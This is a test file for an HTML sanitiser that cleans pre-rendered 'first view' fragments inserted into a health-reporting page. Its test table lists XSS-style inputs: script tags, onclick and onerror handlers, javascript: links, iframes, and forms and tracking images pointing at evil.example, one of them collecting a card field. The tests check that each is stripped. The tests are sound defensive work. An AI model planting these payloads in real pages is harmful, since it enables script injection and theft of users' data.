import { STYLES_POINT, insertionPoint } from '@health-commons/contracts/first-view';
import { readFirstViews, withFirstViews, withoutFirstViews, writeFirstViews } from './first-views';

const read = (html: string) =>
  readFirstViews(writeFirstViews({ css: '', views: [{ place: '/report', language: 'en', html }] })).views[0]
    ?.html;

const page = (language: string) =>
  `<html data-demonstration lang="${language}">${STYLES_POINT}<div data-first-view="/report"><h1>Report</h1>${insertionPoint('/report')}</div>`;

const VIEWS = {
  css: '@media (width > 1px) { .form > p { color: red } }',
  views: [
    { place: '/report', language: 'en', html: '<p class="form">Country</p>' },
    { place: '/report', language: 'ar', html: '<p class="form">البلد</p>' },
  ],
};

test('first views keep their texts, classes, fields and drawings', () => {
  const html =
    '<section class="a b" aria-expanded="false" data-part="area"><label>Name<input type="text" class="c"></label>' +
    '<input type="radio" checked value="x"><select><option selected>One</option></select>' +
    '<svg viewBox="0 0 9 9" width="9" height="9"><path d="M1 1l2 2z"></path></svg></section>';
  expect(read(html)).toBe(html.replace(' value="x"', ''));
});

test.each([
  ['<script>alert(1)</script>', ''],
  ['<p onclick="alert(1)" style="color:red" id="root" tabindex="0">Text</p>', '<p>Text</p>'],
  ['<a href="javascript:alert(1)">Text</a>', 'Text'],
  ['<form action="https://evil.example" method="post"><input name="card"></form>', '<form><input></form>'],
  ['<button type="submit" formaction="https://evil.example">Send</button>', '<button>Send</button>'],
  ['<img src="https://evil.example/pixel" onerror="alert(1)">', ''],
  ['<iframe src="https://evil.example"></iframe><object data="x"></object>', ''],
  [
    '<svg><use href="#x"></use><foreignObject><p>Text</p></foreignObject><script>1</script></svg>',
    '<svg><p>Text</p></svg>',
  ],
  ['<p><!--/first-view--><style>p{}</style><template><b>no</b></template></p>', '<p></p>'],
  ['</template></div><p>Text</p>', '<p>Text</p>'],
])('first views contain nothing that loads, runs or sends: %s', (html, expected) => {
  expect(read(html)).toBe(expected);
});

test('a page shows the first view of its language, with its style sheet in a template', () => {
  const html = withFirstViews(page('ar'), [VIEWS]);
  expect(html).toContain(
    '<h1>Report</h1><div inert="" data-insert="/report"><!--first-view--><p class="form">البلد</p>',
  );
  expect(html).toContain('<template id="first-view-styles"><!--first-view-->@media (width &gt; 1px) {');
  expect(html).not.toContain('Country');
  // A page without a first view in its language stays as it was built.
  expect(withFirstViews(page('hi'), [VIEWS])).toBe(page('hi'));
});

test('new first views replace those of an earlier release, and can be removed', () => {
  const before = withFirstViews(page('en'), [VIEWS]);
  const next = { css: '', views: [{ place: '/report', language: 'en', html: '<p>New $& form</p>' }] };
  expect(withFirstViews(before, [next])).toBe(withFirstViews(page('en'), [next]));
  expect(withFirstViews(before, [next])).toContain('New $& form');
  expect(withoutFirstViews(before)).toBe(page('en'));
});
